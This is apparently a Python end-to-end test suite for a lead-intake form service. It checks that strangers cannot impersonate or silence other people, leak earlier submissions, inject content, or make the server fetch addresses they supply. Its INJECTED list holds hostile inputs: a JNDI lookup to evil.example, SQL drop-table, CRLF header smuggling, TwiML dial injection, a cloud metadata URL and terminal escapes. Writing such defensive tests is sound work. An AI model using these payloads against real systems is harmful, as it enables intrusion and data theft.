"""A stranger's attempts with a form: impersonation, silencing others, injection, requests."""

import asyncio
import re
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from contracts.commands.submission import AcceptSubmission
from tests.e2e.test_persons import mails_to, unsubscribe_link
from tests.e2e.test_webhooks import brevo_posts, twilio_posts
from tests.system import System, e164, person
from tests.unit.providers.test_calcom import a_booking, wrapped

pytestmark = pytest.mark.connected

LISTED = "select count(*) from opt_outs where address = any($1)"
# formulas, templates, commands, internal addresses, line ends
INJECTED = (
    "=HYPERLINK(A1)",
    "@SUM(1+1)*2",
    "{{ 7*7 }}{% for x in y %}",
    "${jndi:ldap://evil.example/a}",
    "</Say><Dial>+5255</Dial><Say>",
    "'; drop table leads; --",
    "\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1",
    "http://169.254.169.254/latest/meta-data/",
    "\u001b[2J\u001b]0;evil\u0007",
    "\u202egnp.exe",
)


async def let_in(system: System, lead: int) -> None:
    """Accepts what a name with a link or markup held, as an operator may."""

    async def is_known() -> bool:
        return bool({"lead.created", "submission.held"} & {*await system.actions(lead)})

    await system.until(is_known, lambda: f"nothing came of {lead}")
    if "submission.held" in await system.actions(lead):
        await system.publish(AcceptSubmission(lead_id=lead, by="operadora"))


async def unsubscribe(system: System, address: str) -> None:
    """Follows the unsubscribe link of the mail that this address got."""
    answer = await system.http.post(await unsubscribe_link(system, address))
    assert answer.status_code == 200


async def test_a_form_with_anothers_phone_neither_silences_nor_replaces_them(
    system: System,
) -> None:
    attacker = person()
    victim = person()
    impostor = await system.lead(attacker | {"telefono": victim["telefono"]})
    await system.happens(impostor, "lead.registered", "email touch.delivered", "call.answered")
    await unsubscribe(system, attacker["email"])
    await system.happens(impostor, "lead.opted_out")
    own = await system.lead(victim)
    await system.happens(
        own, "lead.created", "lead.registered", "email touch.delivered", "call touch.deferred"
    )

    assert own != impostor
    assert await system.sql("notify", LISTED, [e164(victim), victim["email"]]) == 0
    [mail] = await mails_to(system, victim["email"])
    assert f"lead_id%5D={own}" in mail["text"]
    assert attacker["email"] not in mail["text"] + mail["html"]


async def test_a_form_with_anothers_email_neither_silences_nor_replaces_them(
    system: System,
) -> None:
    attacker = person(2, 5)  # whose phone answers BAJA
    victim = person()
    impostor = await system.lead(attacker | {"email": victim["email"]})
    await system.happens(impostor, "lead.registered", "email touch.delivered", "lead.opted_out")
    own = await system.lead(victim)
    await system.happens(
        own, "lead.created", "lead.registered", "call.answered", "email touch.deferred"
    )

    assert own != impostor
    assert await system.sql("notify", LISTED, [e164(victim), victim["email"]]) == 0
    assert len(await system.simulator("calls", e164(victim))) == 1


async def test_no_answer_reveals_an_earlier_submission(system: System) -> None:
    victim = person()
    first = await system.lead(victim)
    answers = [
        await system.post(person() | {name: victim[name] for name in names})
        for names in (("telefono",), ("email",), ("email", "telefono"), ("nombre", "telefono"))
    ]
    ids = [answer.json()["lead_id"] for answer in answers]

    assert {answer.status_code for answer in answers} == {200}
    assert len({first, *ids}) == 5
    assert sorted(ids) == ids


async def test_an_idempotency_key_of_another_reveals_nothing(system: System) -> None:
    victim = person()
    key = "guessed-or-overheard"
    own = (await system.post(victim, headers={"Idempotency-Key": key})).json()
    answer = await system.post(person(), headers={"Idempotency-Key": key})

    assert own["ok"]
    assert answer.status_code == 409
    assert str(own["lead_id"]) not in answer.text
    for value in victim.values():
        assert value not in answer.text


@pytest.mark.parametrize("text", INJECTED)
async def test_typed_text_stays_text(system: System, text: str) -> None:
    form = person(1) | dict.fromkeys(("nombre", "empresa", "servicio", "fuente", "otro"), text)
    lead = await system.lead(form)
    await let_in(system, lead)
    await system.happens(
        lead,
        "lead.registered",
        "call.answered",
        "email touch.delivered",
        "whatsapp touch.delivered",
    )
    [mail] = await mails_to(system, form["email"])
    [call] = await system.simulator("calls", e164(form))
    page = await system.http.get(f"{system.native.addresses.gateway}/console/leads/{lead}")
    table = await system.http.get(f"{system.native.addresses.gateway}/console/sources.csv")

    assert page.status_code == table.status_code == 200
    assert "49" not in mail["subject"]
    assert "\n" not in mail["subject"]
    assert "evil" not in mail["subject"] + mail["text"].split("\n")[0]
    assert not any("Dial" in spoken for spoken in call["transcript"])
    assert "<Dial>" not in page.text
    assert not re.search(r"(^|,)\"?[=@+-]", table.text, re.MULTILINE)
    assert "\u001b" not in page.text + table.text + system.logs()


@pytest_asyncio.fixture(loop_scope="session")
async def bait() -> AsyncIterator[tuple[str, list[str]]]:
    """Opens a server that records its visitors. Returns its address and the records."""
    came: list[str] = []

    def note(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        came.append(str(writer.get_extra_info("peername")))
        writer.close()

    server = await asyncio.start_server(note, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/bait.png", came


async def test_no_address_that_a_stranger_names_is_asked(
    system: System, bait: tuple[str, list[str]]
) -> None:
    address, came = bait
    host = address.split("/")[2]
    form = person(1, 5)
    typed = dict.fromkeys(
        ("nombre", "empresa", "servicio", "fuente", "page_url", "webhook", "utm_source"), address
    )
    named = {
        "Referer": address,
        "X-Forwarded-Host": host,
        "X-Original-URL": address,
        "Forwarded": f"host={host}",
    }
    answer = await system.post(form | typed, headers=named)
    lead = int(answer.json()["lead_id"])
    await let_in(system, lead)
    await system.happens(
        lead, "lead.registered", "email touch.delivered", "whatsapp touch.delivered"
    )
    attendee = {
        "email": form["email"],
        "name": address,
        "timeZone": "America/Monterrey",
        "avatarUrl": address,
    }
    booking = a_booking(
        uid=address, location=address, metadata={"videoCallUrl": address}, attendees=[attendee]
    )
    assert (await system.webhook(wrapped("BOOKING_CREATED", booking))).status_code == 200
    whatsapp = {
        "MessageSid": f"SM{lead}",
        "From": f"whatsapp:{e164(form)}",
        "Body": address,
        "MediaUrl0": address,
    }
    assert (
        await twilio_posts(system, "/webhooks/twilio/inbound", whatsapp | {"NumMedia": "1"})
    ).status_code == 200
    click = {
        "event": "click",
        "email": form["email"],
        "link": address,
        "message-id": f"<{lead}@smtp>",
    }
    assert (await brevo_posts(system, click)).status_code < 300
    await system.http.get(f"{system.native.addresses.gateway}/console/leads/{lead}")
    await system.quiet()

    assert came == []
    _, writer = await asyncio.open_connection(*host.split(":"))  # the bait does record a visitor
    writer.close()
    await system.until(lambda: asyncio.sleep(0, bool(came)), lambda: "the bait recorded nobody")
